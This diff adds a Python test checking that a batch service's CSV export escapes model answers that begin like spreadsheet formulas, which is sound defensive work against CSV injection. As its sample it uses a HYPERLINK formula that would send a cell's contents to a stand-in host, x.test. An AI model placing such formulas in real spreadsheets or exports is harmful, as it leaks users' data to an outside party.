@@ -562,3 +562,22 @@ async def test_the_cli_runs_a_file_and_a_second_run_reuses_its_batch(
     ]
     table = list(csv.DictReader((tmp_path / "r.csv").open()))
     assert table[1]["result.echo"] == "line 2"
+
+
+async def test_csv_results_keep_a_spreadsheet_from_reading_text_as_a_formula(
+    svc: Service, fake_ollama: FakeOllama
+) -> None:
+    """A model's answer is text from outside: one that starts like a formula (OWASP's CSV
+    injection) is written with a leading apostrophe, which spreadsheets read as "this is
+    text". JSON lines carry it as it is; numbers stay numbers."""
+    fake_ollama.reply = lambda request: json.dumps(
+        {"echo": '=HYPERLINK("http://x.test/?"&A1)', "n": -3}
+    )
+    answer = await upload(svc, b"text\none\n")
+    batch_id = answer["batch"]["id"]
+    await finished(svc, batch_id)
+    (line,) = [json.loads(x) for x in (await results(svc, batch_id)).splitlines()]
+    assert line["result"]["echo"].startswith("=HYPERLINK")
+    (row,) = csv.DictReader(io.StringIO(await results(svc, batch_id, "csv")))
+    assert row["result.echo"] == "'" + line["result"]["echo"]
+    assert row["result.n"] == "-3"
